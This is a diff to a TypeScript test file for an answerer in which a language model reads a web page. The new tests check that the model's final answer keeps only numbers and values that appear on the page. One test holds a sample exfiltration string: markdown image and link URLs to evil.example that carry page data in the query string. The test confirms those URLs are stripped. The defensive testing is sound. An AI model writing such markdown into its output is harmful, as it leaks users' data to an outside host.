@@ -9,7 +9,7 @@ import type { LiveSession } from "./session-keeper.ts";
 
 type Fill = room.Model["fill"];
 
-function answererOf(fill: Fill) {
+function answererOf(fill: Fill, shown = "") {
   const lines: string[] = [];
   const model = { name: "test", ask: fill as never, fill } satisfies room.Model;
   const use = { model, room, contextTokens: 8000, question: (words: object) => words } as unknown as ModelUse;
@@ -17,7 +17,7 @@ function answererOf(fill: Fill) {
   const programs = {
     run: async (_live: unknown, { code }: { code: string }) => {
       lines.push(code);
-      return { stdout: '- button "Go" [ref=e1]', stderr: "" };
+      return { stdout: `- button "Go" [ref=e1]\n${shown}`, stderr: "" };
     },
   } as unknown as SessionPrograms;
   const answer = createPromptAnswerer(languageModel, programs);
@@ -63,7 +63,37 @@ describe("a model's work on a page", () => {
       count += 1;
       return count === 1 ? unusable : filled({ tool: "finish", answer: "Done." });
     });
-    expect(await once.ask()).toEqual({ output: "Done.", problem: null });
+    expect(await once.ask()).toEqual({ output: "Done.", problem: null, warning: null });
     await expect(answererOf(async () => unusable).ask()).rejects.toMatchObject({ code: "MODEL_ANSWER_UNUSABLE" });
+  });
+
+  const shown = '- text: Ada Lumen founded it in 1987, see https://a.example/about\n- textbox "Order 4711"';
+  const finish = (answer: string) => answererOf(async () => filled({ tool: "finish", answer }), shown).ask();
+
+  it("is answered with words whose numbers and addresses stand on the page, or are named", async () => {
+    const right = "Ada Lumen founded it in 1987 (https://a.example/about).";
+    expect(await finish(right)).toEqual({ output: right, problem: null, warning: null });
+    expect(await finish("It has 52,300 lamps since 1987.")).toEqual({
+      output: "It has 52,300 lamps since 1987.",
+      problem: null,
+      warning: "Numbers in the output that are not on the page: 52,300.",
+    });
+    const stolen = await finish("Done. ![x](https://evil.example/?d=Ada) [more](https://evil.example/?d=1987)");
+    expect(stolen).toMatchObject({ output: "Done. x more", warning: expect.stringContaining("were left out") });
+    expect(JSON.stringify(stolen)).not.toContain("evil");
+  });
+
+  it("is answered with JSON whose values stand on the page; others are left out and named", async () => {
+    expect(await finish('{"founder": "Ada Lumen", "year": 1987}')).toEqual({
+      output: '{"founder": "Ada Lumen", "year": 1987}',
+      problem: null,
+      warning: null,
+    });
+    const made = '{"founder": "Bob Smith", "year": 1987, "tags": ["Ada Lumen", "cheap"], "isOld": true}';
+    expect(await finish(made)).toEqual({
+      output: '{"year":1987,"isOld":true,"tags":["Ada Lumen"]}',
+      problem: null,
+      warning: "Said by the language model, but not on the page, and left out: founder, tags[1].",
+    });
   });
 });
